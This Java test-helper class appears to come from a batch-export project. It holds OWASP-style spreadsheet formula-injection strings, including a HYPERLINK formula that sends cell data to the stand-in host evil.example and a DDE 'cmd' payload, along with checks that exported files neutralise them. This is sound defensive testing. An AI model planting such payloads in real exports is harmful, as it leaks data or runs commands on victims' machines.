package com.qiyouxiang.batch;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.PreparedStatement;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/** The classic formula-injection strings (OWASP), and the checks every output path is held to. */
public final class InjectionStrings {

    public static final List<String> ALL = List.of(
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")",
            "+cmd|' /C calc'!A0",
            "@SUM(1+1)",
            "-2+3",
            "=1+1",
            "   =1+1",
            "\t=1+1",
            " \t @SUM(1+1)",
            "\r=1+1");

    private InjectionStrings() {
    }

    /** The CSV form every path must write: the text with a leading apostrophe. */
    public static List<String> neutralised() {
        return ALL.stream().map(s -> "'" + s).toList();
    }

    /** A table (id INTEGER, name VARCHAR, deviation DOUBLE): one row per string, the deviation negative. */
    public static void table(Connection c, String table, double deviation) throws SQLException {
        try (Statement s = c.createStatement()) {
            s.execute("CREATE TABLE " + table + " (id INTEGER, name VARCHAR, deviation DOUBLE)");
        }
        try (PreparedStatement p = c.prepareStatement("INSERT INTO " + table + " VALUES (?, ?, ?)")) {
            for (int i = 0; i < ALL.size(); i++) {
                p.setInt(1, i);
                p.setString(2, ALL.get(i));
                p.setDouble(3, deviation);
                p.executeUpdate();
            }
        }
    }

    /** Every cell of every sheet: no formula cell anywhere; returns the string cells' values. */
    public static List<String> stringCellsWithoutFormulas(Path xlsx) throws Exception {
        List<String> strings = new ArrayList<>();
        try (InputStream in = Files.newInputStream(xlsx); XSSFWorkbook wb = new XSSFWorkbook(in)) {
            for (Sheet sheet : wb) {
                for (Row row : sheet) {
                    for (Cell cell : row) {
                        assertThat(cell.getCellType()).as(xlsx.getFileName() + " " + sheet.getSheetName() + "!"
                                + cell.getAddress()).isNotEqualTo(CellType.FORMULA);
                        if (cell.getCellType() == CellType.STRING) {
                            strings.add(cell.getStringCellValue());
                        }
                    }
                }
            }
        }
        return strings;
    }
}
